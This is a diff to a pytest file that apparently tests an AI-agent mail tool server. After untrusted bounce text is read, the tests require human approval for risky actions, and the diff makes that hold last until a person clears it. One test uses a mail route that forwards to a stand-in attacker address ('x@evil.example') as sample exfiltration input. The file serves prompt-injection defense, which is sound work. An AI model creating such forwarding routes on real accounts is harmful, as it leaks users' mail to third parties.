@@ -9,7 +9,7 @@ from typing import Any
 import httpx
 import pytest
 
-from mailgun_mcp.call.counters import Sends
+from mailgun_mcp.call.counters import Sends, Untrusted
 from mailgun_mcp.call.pipeline import run
 from mailgun_mcp.call.results import CallResult
 from mailgun_mcp.call.services import Services
@@ -24,7 +24,7 @@ from tests.support.recorder import Clock, Recorder, recorded_app
 
 pytestmark = pytest.mark.anyio
 
-MINUTE, HOUR = 60.0, 3600.0
+MINUTE, HOUR, DAY = 60.0, 3600.0, 86_400.0
 HELD = "Pending approval "
 BOUNCE = {"domain_name": "mg.example.com", "address": "ann@example.com"}
 UNTRUSTED = {"address": "ann@example.com", "error": "no such user"}
@@ -79,7 +79,7 @@ DANGEROUS = [
 
 
 @pytest.mark.parametrize("tool", DANGEROUS)
-async def test_soon_after_untrusted_text_what_could_do_harm_needs_a_yes(
+async def test_after_untrusted_text_what_could_do_harm_needs_a_yes(
     tool: str, services: Services, mailgun: Recorder
 ) -> None:
     await run(services, "get_bounce", BOUNCE)
@@ -87,17 +87,27 @@ async def test_soon_after_untrusted_text_what_could_do_harm_needs_a_yes(
     arguments = {**minimal(find(tool)), **({"action": ["forward('x@evil.example')"]} if tool == "create_route" else {})}
     assert held(await run(services, tool, arguments))
     assert mailgun.changes == []
-    assert "third-party text was shown a short while ago" in services.approvals.list(services.clock())[0].text
+    assert "third-party text was shown in this session" in services.approvals.list(services.clock())[0].text
 
 
-async def test_it_is_forgotten_after_a_while(services: Services, mailgun: Recorder, clock: Clock) -> None:
+async def test_it_is_remembered_until_a_person_clears_it(services: Services, mailgun: Recorder, clock: Clock) -> None:
     assert (await send(services, "ann@example.com")).kind == "done"
     await run(services, "get_bounce", BOUNCE)
-    clock.now += 15 * MINUTE
+    clock.now += 30 * DAY
     assert held(await send(services, "ann@example.com"))
-    clock.now += 1
+    assert Untrusted(services.store).clear() == ["local"]
     assert (await send(services, "ann@example.com")).kind == "done"
+    await run(services, "get_bounce", BOUNCE)
+    assert held(await send(services, "ann@example.com"))
     assert mailgun.changes == [SEND, SEND]
+
+
+async def test_a_restarted_server_remembers_it_for_a_day(services: Services, clock: Clock) -> None:
+    await run(services, "get_bounce", BOUNCE)
+    clock.now += DAY
+    assert held(await send(replace(services), "ann@example.com"))
+    clock.now += 1
+    assert (await send(replace(services), "ann@example.com")).kind == "done"
 
 
 async def test_each_caller_has_read_what_they_have_read(services: Services) -> None:
